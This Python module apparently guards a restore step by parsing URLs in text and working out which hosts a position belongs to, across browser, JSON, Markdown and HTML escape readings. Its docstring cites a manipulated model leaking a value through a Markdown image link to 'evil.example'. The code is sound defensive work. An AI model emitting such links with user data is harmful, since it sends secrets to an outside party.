"""URLs in running text: which hosts does a place in a text belong to?

A model that was talked into it can carry a value away in a link
(`![](https://evil.example/?q=VALUE)`), so a restore asks here first.

Theory of operation. Around a place lies a token, the stretch that a client could take
for one link. It may hold several URLs, one inside the other: their hosts all count.
Clients disagree about what a link says, so each token is read in several ways, and the
hosts of every reading count:

- as it stands, in the manner of browsers (WHATWG URL): a backslash is a slash, `https:`
  needs no slashes at all, user info is not the host;
- with the escapes of JSON and Markdown and the entities of HTML decoded, also twice;
- where it stands in an HTML attribute, without its tabs and line ends.

It is deliberately generous: what might be a URL is one.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from dataclasses import dataclass

#: Longest URL that is followed back to its host; longer ones count as foreign.
MAX_URL_LENGTH = 4096

#: A URL in plain text ends at white space and at characters that no client links.
_TERMINATORS = '"<>`'
#: What stands in every URL, in whatever reading; most text holds none of it.
_HINTS = (":", "/", "\\", "&", "www.")
#: Where a URL stands between delimiters it may hold more: blanks in an HTML attribute and
#: in Markdown's `](<...>)`, quotes and angle brackets in `](...)` and `]: ...`.
#: (Each alternative begins with a plain character: that is four times as fast.)
_OPENING = re.compile(
    r"=\s*\\*(?P<quote>[\"'])|\(\s*<|:\s*<|\]\((?!\s*<)(?P<paren>\s*)|\]:(?!\s*<)\s*"
)
_ANGLE_END = re.compile(r"(?<!\\)>|\n")
_PAREN = re.compile(r"(?P<space>\s)|(?P<open>\()|(?<!\\)\)")

#: `//` counts where a scheme stands before it or nothing that would make it a path or a
#: division. `www.` needs no border: a surrogate before it may stand for anything. Backslashes
#: alone do not after an unknown scheme: that is a Windows path.
_START = re.compile(
    r"(?i:(?:https?|(?<![a-z])(?:wss?|ftp)):[/\\]*|:(?:\\*/){2,}[/\\]*"
    r"|(?<![\w/\\)\]:])(?:\\?[/\\]){2,}|www\.)"
)
_AUTHORITY_END = re.compile(r"[\s\"<>`/\\?#]")
#: Neither a backslash nor `&#` ends what has to be awaited: they may begin an escape.
_REST_END = re.compile(r"[\s\"<>`/?]|(?<!&)#")
_SPREAD_REST_END = re.compile(r"[ \"<>`/?]|(?<!&)#")
_STRIPPED = re.compile(r"[\t\r\n]")
_TRAILING = ".,;:!?)]}'*_~|"
_BARE_HOST = re.compile(r"(?<![@\w.-])(?:[A-Za-z0-9-]{1,63}\.){1,8}[A-Za-z]{2,24}(?![\w@-])")

#: Escapes of JSON (RFC 8259 section 7) and of Markdown (CommonMark 2.4).
_ESCAPE = re.compile(r"\\(?:u([0-9a-fA-F]{4})|([nrt])|([!-/:-@\[-`{-~]))")
_BLANKS = {"n": "\n", "r": "\r", "t": "\t"}
_MAX_READINGS = 4
#: Where an authority is longer, it is cut: no host has that many characters (RFC 1035: 253).
_MAX_AUTHORITY = MAX_URL_LENGTH
_NO_HOST = "https://\0/"


@dataclass(frozen=True, slots=True)
class UrlPlace:
    """A position inside a URL. `token` is the text before it, from where URLs may begin.

    `in_authority` is true while the position may still be in front of the path, so that
    what follows belongs to a host as well. `spread` says that tabs and line ends do not
    count, as in an HTML attribute.
    """

    token: str
    in_authority: bool
    spread: bool = False

    def __repr__(self) -> str:
        return f"UrlPlace(<{len(self.token)} characters>, {self.in_authority})"


def url_at(text: str, position: int) -> UrlPlace | None:
    """The URL that `position` stands in, or None. Looks back at most MAX_URL_LENGTH.

    Where no end of a token is in sight that far back, the position counts as inside a
    URL without a host.
    """
    floor = max(0, position - MAX_URL_LENGTH)
    begin = _token_start(text, floor, position)
    endless = begin == floor > 0
    window = text[floor:position].lower()
    if not endless and not any(hint in window for hint in _HINTS):
        return None
    opening, spread = _opening(text, floor, position)
    token = text[min(begin, opening) : position]
    found = in_authority = False
    for reading in _readings(token, spread=spread):
        for match in _START.finditer(reading):
            found = True
            in_authority |= _AUTHORITY_END.search(reading, _begin(match)) is None
    if found:
        return UrlPlace(token, in_authority, spread)
    return UrlPlace(_NO_HOST, in_authority=False) if endless else None


def _token_start(text: str, floor: int, position: int) -> int:
    """Where the last stretch without a terminator begins."""
    words = text[floor:position].rsplit(None, 1)
    if not words or text[position - 1].isspace():
        return position
    begin = position - len(words[-1])
    return max(begin, *(text.rfind(mark, begin, position) + 1 for mark in _TERMINATORS))


def _opening(text: str, floor: int, position: int) -> tuple[int, bool]:
    """Where the first delimiter that is still open at `position` ends; is it an attribute's?"""
    for match in _OPENING.finditer(text, floor, position):
        if _is_open(match, text, position):
            return match.end(), match["quote"] is not None
    return position, False


def _is_open(opening: re.Match[str], text: str, position: int) -> bool:
    start = opening.end()
    if opening["quote"]:
        return text.find(opening["quote"], start, position) < 0
    if opening[0].endswith("<"):
        return _ANGLE_END.search(text, start, position) is None
    depth = 1
    for match in _PAREN.finditer(text, start, position):
        if match["space"]:
            return False
        if opening["paren"] is not None:
            depth += 1 if match["open"] else -1
        if depth == 0:
            return False
    return True


def authority_rest(text: str, position: int, *, spread: bool = False) -> tuple[str, bool]:
    """What follows `position` up to the end of the authority, and whether that end is in sight."""
    end = (_SPREAD_REST_END if spread else _REST_END).search(text, position)
    if end is None:
        return text[position:], False
    return text[position : end.start()], True


def hosts_of(token: str, *, spread: bool = False) -> Iterator[str]:
    """The host of every URL in a token, in all its readings. "" for one without a host.

    A URL that only starts where the token ends is not looked at: nothing is in it yet.
    """
    for reading in _readings(token, spread=spread):
        for match in _START.finditer(reading):
            if match.end() < len(reading):
                yield host_of(reading[_begin(match) : match.end() + _MAX_AUTHORITY])


def _begin(start: re.Match[str]) -> int:
    """Where the authority begins: `www.` is part of it."""
    return start.start() if start[0].lower() == "www." else start.end()


def _readings(text: str, *, spread: bool = False) -> Iterator[str]:
    """A text as it stands and with its escapes decoded, one time after the other."""
    for _ in range(_MAX_READINGS):
        yield text
        if spread:
            yield _STRIPPED.sub("", text)
        decoded = _ESCAPE.sub(_unescape, text) if "\\" in text else text
        decoded = html.unescape(decoded) if "&" in decoded else decoded
        if decoded == text:
            return
        text = decoded


def _unescape(match: re.Match[str]) -> str:
    code, blank, mark = match.groups()
    if code is not None:
        return chr(int(code, 16))
    return str(mark or _BLANKS[blank])


def host_of(authority: str) -> str:
    """The host of an authority: lower case, without user info, port and trailing prose marks."""
    cut = authority.lstrip("/\\")
    end = _AUTHORITY_END.search(cut)
    if end is not None:
        cut = cut[: end.start()]
    cut = cut.rpartition("@")[2].rstrip(_TRAILING)
    if cut.startswith("["):
        return cut.partition("]")[0].lower()
    return cut.partition(":")[0].rstrip(_TRAILING).lower()


def hosts_in(text: str) -> Iterator[str]:
    """The hosts that a text names: in URLs, and bare domain names that are no e-mail domain.

    "" is among them where the text holds a URL without a host, such as a bare `https:`.
    """
    yield from hosts_of(text)
    if "." in text:
        for match in _BARE_HOST.finditer(text):
            yield match[0].lower()
